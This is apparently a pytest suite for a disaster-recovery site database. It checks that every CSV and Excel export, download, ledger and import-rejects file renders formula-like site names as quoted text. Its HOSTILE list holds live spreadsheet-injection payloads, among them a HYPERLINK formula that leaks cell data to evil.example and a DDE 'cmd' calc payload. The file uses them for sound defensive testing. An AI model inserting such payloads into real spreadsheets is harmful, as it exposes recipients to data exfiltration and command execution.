"""No writer of CSV or Excel carries user text as a live formula (issue 12, finding 4): site names and addresses
that begin with = + - @ (tab, CR, full-width ＝＋－＠) come out as text in every export, download and ledger,
on SQLite and PostGIS; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from support.accounts import auth

from recovery.interop.export import write_file
from recovery.models import Site
from recovery.query.sites import SiteQuery
from recovery.query.sql import select_sites
from recovery.settings import PROJECT_ROOT
from recovery.spreadsheet import FORMULA_STARTS, csv_cell, from_csv_cell, is_formula_like

DAY = "2021-07-29"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
    "＝1+2",
    "＋1+2",
    "－1+2",
    "＠SUM(1)",
    "'=1+2",
]
ROOT = PROJECT_ROOT


# --- the rule -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_formula_like_text_is_quoted_in_csv_and_comes_back_exactly(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text
    assert from_csv_cell(csv_cell(text)) == text


@pytest.mark.parametrize("text", ["'=1+2", "'plain", "''", "'"])
def test_a_leading_apostrophe_survives_the_round_trip(text):
    assert from_csv_cell(csv_cell(text)) == text


@pytest.mark.parametrize(
    "value", [-5, -2.5, 0, 3, 1e-9, "-5", "+3.25", "-.5", "1e5", "石佛办事处", "", "a=b", " =1", None]
)
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csv_cell(value) == ("" if value is None else value)
    if isinstance(value, str):
        assert not is_formula_like(value)
        assert from_csv_cell(value) == value


# --- every writer -------------------------------------------------------------------------------------------


@pytest.fixture
def hostile(seeded_session):
    """The road collapse points renamed with hostile names and addresses; returns the names used."""
    ids = seeded_session.scalars(select(Site.id).where(Site.kind == "road_collapse").order_by(Site.id)).all()
    for index, site_id in enumerate(ids):
        seeded_session.execute(
            update(Site)
            .where(Site.id == site_id)
            .values(name=HOSTILE[index % len(HOSTILE)], address=HOSTILE[(index + 1) % len(HOSTILE)])
        )
    seeded_session.commit()
    return set(HOSTILE)


def check_csv(text: str, hostile: set[str]) -> None:
    """No cell a spreadsheet would run, and every hostile name present, quoted, and recoverable."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [c for row in rows for c in row]
    assert cells and not [c for c in cells if is_formula_like(c)]
    assert {from_csv_cell(c) for c in cells} >= hostile
    assert "'" + HOSTILE[0] in cells


def check_xlsx(data: bytes, hostile: set[str]) -> None:
    """No formula cell in any sheet, and every formula-like text cell marked as text (quotePrefix)."""
    with zipfile_of(data) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert not re.search(rb"<f[ >]", archive.read(name)), f"a formula cell in {name}"
    book = load_workbook(io.BytesIO(data), read_only=True)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.style_array.quotePrefix, repr(cell.value)
                    seen.add(cell.value)
                if isinstance(cell.value, str) and cell.value[:1] == "'":
                    seen.add(cell.value)
    book.close()
    assert seen >= {h.replace("\r", "\n") for h in hostile}  # XML reads a CR in text as a line feed


def zipfile_of(data: bytes):
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_recovery_export_files(seeded_session, hostile, tmp_path, fmt):
    """`recovery export` (write_file) in both office formats, with Chinese and English headers."""
    records, _ = select_sites(seeded_session, SiteQuery(("road_collapse",)))
    for lang in ("zh", "en"):
        out = write_file(records, fmt, tmp_path / f"sites-{lang}.{fmt}", kind="road_collapse", lang=lang)
        if fmt == "csv":
            check_csv(out.read_bytes().decode("utf-8"), hostile)
        else:
            check_xlsx(out.read_bytes(), hostile)


def test_export_cli(seeded_session, seeded_runner, hostile, tmp_path):
    out = tmp_path / "rc.csv"
    result = seeded_runner.invoke(
        args=["export", "--format", "csv", "--kind", "road_collapse", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    check_csv(out.read_bytes().decode("utf-8"), hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_api(seeded_client, hostile, fmt):
    response = seeded_client.get(f"/api/v1/export?format={fmt}&kind=road_collapse", headers=auth("commander"))
    assert response.status_code == 200
    if fmt == "csv":
        check_csv(response.get_data(as_text=True), hostile)
    else:
        check_xlsx(response.data, hostile)


@pytest.mark.slow
def test_daily_ledger(seeded_client, hostile):
    response = seeded_client.get(f"/api/v1/reports/daily/{DAY}?format=xlsx", headers=auth("reporter"))
    assert response.status_code == 200
    check_xlsx(response.data, hostile)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "path",
    [
        f"/reports/daily/{DAY}/records/road_collapse_total",
        f"/reports/daily/{DAY}/table/road_collapse/total",
    ],
    ids=["records", "table-cell"],
)
def test_record_downloads(seeded_client, hostile, path, fmt):
    response = seeded_client.get(f"{path}?format={fmt}", headers=auth("reporter"))
    assert response.status_code == 200
    if fmt == "csv":
        check_csv(response.get_data(as_text=True), hostile)
    else:
        check_xlsx(response.data, hostile)


#: what writes a CSV or Excel file
WRITER = re.compile(r"csv\.writer|DictWriter|openpyxl import Workbook|\.to_csv\(|\.to_excel\(|xlsxwriter")


def test_every_writer_goes_through_the_one_rule():
    """A module that writes CSV or Excel uses recovery.spreadsheet (or is the ledger writer, which does)."""
    writers = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "recovery").rglob("*.py")
        if WRITER.search(path.read_text(encoding="utf-8"))
    }
    assert writers, "the pattern finds the writers"
    unguarded = {
        name
        for name in writers
        if "recovery.spreadsheet import" not in (ROOT / name).read_text(encoding="utf-8")
    }
    assert unguarded == set()
    assert set("=+-@\t\r＝＋－＠") <= FORMULA_STARTS


def test_the_import_rejects_file_carries_no_formula(tmp_path):
    """The rejected rows of an import, written back for the admin to open in Excel, keep hostile names as text."""
    from types import SimpleNamespace

    from recovery.interop.importer import write_rejects
    from recovery.interop.validate import Row

    rows = [Row(number=n + 2, key=f"K{n}", name=name, errors=["bad"]) for n, name in enumerate(HOSTILE)]
    plan = SimpleNamespace(rejected=rows)
    assert write_rejects(plan, tmp_path / "rejects.csv") == len(HOSTILE)
    with (tmp_path / "rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
        names = [line[2] for line in list(csv.reader(handle))[1:]]
    assert [from_csv_cell(n) for n in names] == HOSTILE
    assert not any(is_formula_like(n) for n in names)
